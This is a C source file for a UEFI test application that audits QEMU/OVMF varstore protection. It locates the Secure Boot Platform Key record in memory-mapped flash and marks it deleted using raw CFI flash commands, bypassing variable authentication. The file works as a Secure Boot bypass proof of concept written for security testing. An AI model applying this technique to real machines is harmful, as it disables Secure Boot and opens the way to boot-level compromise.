/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* vsboot audit boot test: what code outside SMM can do to a varstore flash QEMU does not mark
 * "secure". This EFI application stands for any guest code that runs after the firmware (an OS
 * kernel, a driver, a signed but compromised boot loader): it finds the PK record in the
 * varstore flash by reading the memory-mapped flash, and programs its State byte from 0x3F
 * (VAR_ADDED) to 0x3C (deleted) with the CFI single-byte program command, exactly as OVMF's own
 * flash driver writes (QemuFlash.c: 0x10, data, then 0xFF read-array). No UEFI variable
 * service is involved, so no authentication is checked. With -global
 * driver=cfi.pflash01,property=secure,value=on QEMU refuses writes that do not come from SMM
 * and the byte stays 0x3F. It prints one marker line with the State before and after, then
 * powers off. */
#include <efi.h>
#include <efilib.h>

#define MARKER L"VSBOOT-FLASHWRITE"
/* 4 MiB OVMF on q35: flash 0 (3.5 MiB code) ends at 4 GiB, flash 1 (528 KiB) right below. */
#define VARS_BASE 0xFFC00000ULL
#define CFI_PROGRAM_BYTE 0x10
#define CFI_READ_ARRAY 0xFF

static UINT32
rd32(volatile UINT8 *p)
{
  return (UINT32)p[0] | ((UINT32)p[1] << 8) | ((UINT32)p[2] << 16) | ((UINT32)p[3] << 24);
}

EFI_STATUS
efi_main(EFI_HANDLE image, EFI_SYSTEM_TABLE *system_table)
{
  InitializeLib(image, system_table);
  volatile UINT8 *base = (volatile UINT8 *)(UINTN)VARS_BASE;

  /* EFI_FIRMWARE_VOLUME_HEADER.Signature "_FVH" at 0x28, the store size at 0x58. */
  if (rd32(base + 0x28) != 0x4856465F) {
    Print(L"\r\n" MARKER L" no-varstore-at-0xFFC00000\r\n");
    goto out;
  }
  UINT32 store_size = rd32(base + 0x58);
  UINTN end = 0x48 + (UINTN)store_size, off = 0x64, pk = 0;
  if (end > 0x40000)
    end = 0x40000;
  /* AUTHENTICATED_VARIABLE_HEADER: StartId 0x55AA, State, ..., NameSize @36, DataSize @40,
   * VendorGuid @44, name @60; records 4-byte aligned. */
  while (off + 60 <= end && base[off] == 0xAA && base[off + 1] == 0x55) {
    UINT8 state = base[off + 2];
    UINT32 name_size = rd32(base + off + 36), data_size = rd32(base + off + 40);
    if (name_size > end || data_size > end)
      break;
    if (state == 0x3F && name_size == 6 && base[off + 60] == 'P' && base[off + 61] == 0 &&
        base[off + 62] == 'K' && base[off + 63] == 0 && base[off + 64] == 0 &&
        base[off + 65] == 0) {
      pk = off;
      break;
    }
    off = (off + 60 + name_size + data_size + 3) & ~(UINTN)3;
  }
  if (pk == 0) {
    Print(L"\r\n" MARKER L" no-PK-record\r\n");
    goto out;
  }
  UINT8 before = base[pk + 2];
  base[pk + 2] = CFI_PROGRAM_BYTE;
  base[pk + 2] = 0x3C;
  base[pk + 2] = CFI_READ_ARRAY;
  UINT8 after = base[pk + 2];
  Print(L"\r\n" MARKER L" PK-record=0x%x state-before=%02x state-after=%02x\r\n", pk, before,
        after);
out:
  uefi_call_wrapper(RT->ResetSystem, 4, EfiResetShutdown, EFI_SUCCESS, 0, NULL);
  return EFI_SUCCESS;
}
